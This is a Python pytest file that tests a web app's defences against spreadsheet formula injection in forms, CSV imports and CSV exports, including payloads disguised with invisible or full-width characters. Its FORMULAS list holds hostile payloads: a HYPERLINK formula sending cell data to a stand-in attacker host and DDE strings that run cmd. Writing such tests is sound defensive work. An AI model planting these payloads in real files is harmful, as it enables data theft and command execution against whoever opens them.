"""Spreadsheet formula injection, tried as an attacker would: hostile values refused at every
way in (form, CSV import, service), and the export of hostile values already stored read back
as a spreadsheet would, with every formula neutralised."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from peermatch import registry, reviewer_csv
from peermatch.errors import ValidationFailed
from peermatch.models import AuditEvent, Reviewer
from peermatch.registry import ReviewerInput
from peermatch.text import FORMULA_START

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
]
HEADER = "name,email,partnership,agency,job_role,skills,capacity,active,accredited_on,unavailable,conflicts\n"  # noqa: E501


def _form(partnership, **overrides) -> dict:
    return {
        "name": "Priya Shah",
        "email": "priya.shah@example.org",
        "partnership_id": str(partnership.id),
        "agency": "police",
        "capacity": "1",
        "active": "yes",
        **overrides,
    }


@pytest.mark.parametrize("field", ["name", "email", "job_role"])
@pytest.mark.parametrize("value", ["=1+1", "+44@example.org", "-x@example.org", "@SUM(1)"])
def test_the_form_refuses_a_formula(alice_client, partnership_a, session, post_form, field, value):
    response = post_form(alice_client, "/reviewers/new", _form(partnership_a, **{field: value}))
    assert response.status_code == 400
    assert "must not start with =, +, -, @" in response.text or "correct format" in response.text
    assert session.exec(select(Reviewer)).all() == []


@pytest.mark.parametrize("value", FORMULAS[:4])
def test_the_service_refuses_a_formula_in_an_email(session, partnership_a, value):
    data = ReviewerInput(
        name="Ann",
        email=value.strip() + "@example.org",
        partnership_id=partnership_a.id,
        agency="police",
    )
    with pytest.raises(ValidationFailed) as caught:
        registry.create_reviewer(session, partnership_a.region_id, data, actor="test")
    assert "email" in caught.value.errors


@pytest.mark.parametrize(
    "row",
    [
        '"=HYPERLINK(""https://evil.example"")",ann@example.org,ALPHA,police,,,1,yes,,,',
        "Ann,=cmd@example.org,ALPHA,police,,,1,yes,,,",
        "Ann,ann@example.org,ALPHA,police,@SUM(1),,1,yes,,,",
        "'=1+1,ann@example.org,ALPHA,police,,,1,yes,,,",  # escaped as an export escapes it
        '"\t=1+1",ann@example.org,ALPHA,police,,,1,yes,,,',
    ],
)
def test_the_import_refuses_a_formula(session, partnership_a, row):
    preview = reviewer_csv.preview_import(
        session, partnership_a.region_id, (HEADER + row + "\n").encode()
    )
    assert not preview.ok and not preview.rows


def _store_hostile(session, partnership, values: list[str]) -> None:
    """Hostile values as they might sit in a database from before the rules (written
    directly, past every check)."""
    for i, value in enumerate(values):
        session.add(
            Reviewer(
                partnership_id=partnership.id,
                name=value,
                email=f"{value}{i}@example.org",
                agency="police",
                job_role=value,
            )
        )
    session.commit()


def test_the_export_read_back_as_a_spreadsheet_has_no_live_formula(
    alice_client, partnership_a, session
):
    _store_hostile(session, partnership_a, FORMULAS)
    response = alice_client.get("/reviewers/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0] == list(reviewer_csv.COLUMNS)
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows[1:]:
        assert len(row) == len(reviewer_csv.COLUMNS)  # no cell spilled into another
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_START), row
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted("'" + v for v in FORMULAS)  # escaped, not mangled


def test_the_web_export_is_audited(alice_client, alice, session):
    assert alice_client.get("/reviewers/export.csv").status_code == 200
    session.expire_all()
    events = session.exec(select(AuditEvent).where(AuditEvent.action == "reviewer.export")).all()
    assert [(e.actor, e.region_id) for e in events] == [(f"user:{alice.id}", alice.region_id)]


# --- one escaper for every CSV (issue 18.4d) -----------------------------------------------------

# A formula behind what a spreadsheet passes over or a person cannot see, or in a full-width or
# small form; every one starts a live formula in some spreadsheet.
HIDDEN_FORMULAS = [
    "\uff1dHYPERLINK(1)",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d2+3",  # full-width -
    "\uff20SUM(1)",  # full-width @
    "\ufe62cmd",  # small +
    "\u2212 1",  # minus sign
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u200e+1",  # left-to-right mark
    "\u00a0@SUM(1)",  # no-break space
    "\u3000-1",  # ideographic space
    "\u200b\t=1",  # zero-width space, then tab
    "\u2060\r=1",  # word joiner, then carriage return
]


def _cells(exported: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(exported)) for cell in row]


@pytest.mark.parametrize("value", HIDDEN_FORMULAS)
def test_the_shared_escaper_sees_through_invisible_and_wide_characters(value):
    from peermatch.text import spreadsheet_cell, starts_like_formula

    assert starts_like_formula(value)
    assert spreadsheet_cell(value) == "'" + value


def test_the_ledger_export_escapes_like_every_other_export(session, alice_client, region_a):
    from peermatch.models import Partnership

    for n, value in enumerate([*FORMULAS, *HIDDEN_FORMULAS]):
        session.add(Partnership(region_id=region_a.id, code=f"P{n}", name=value))
    session.commit()
    response = alice_client.get("/ledger/export.csv")
    assert response.status_code == 200
    names = {value: False for value in [*FORMULAS, *HIDDEN_FORMULAS]}
    for cell in _cells(response.text):
        if cell.startswith("'") and cell[1:] in names:
            names[cell[1:]] = True
        assert cell in {"", "0"} or not cell[:1].isspace() or cell.startswith("'")
    assert all(names.values()), [v for v, seen in names.items() if not seen]
    # Every cell quoted, as in the reviewer export: nothing can spill into the next cell.
    header, *_ = response.text.splitlines()
    assert header.startswith('"partnership_code","partnership"')


def test_the_reviewer_export_escapes_hidden_formulas(session, partnership_a, alice_client):
    # Stored before the rules (straight into the table): the export must still defuse them.
    for n, value in enumerate(HIDDEN_FORMULAS):
        session.add(
            Reviewer(
                partnership_id=partnership_a.id,
                name=value,
                email=f"r{n}@example.org",
                agency="police",
            )
        )
    session.commit()
    exported = alice_client.get("/reviewers/export.csv").text
    cells = set(_cells(exported))
    for value in HIDDEN_FORMULAS:
        assert "'" + value in cells and value not in cells


@pytest.mark.parametrize("value", HIDDEN_FORMULAS[:8])
def test_the_form_refuses_a_hidden_formula(alice_client, partnership_a, post_form, value):
    response = post_form(alice_client, "/reviewers/new", _form(partnership_a, name=value))
    assert response.status_code == 400
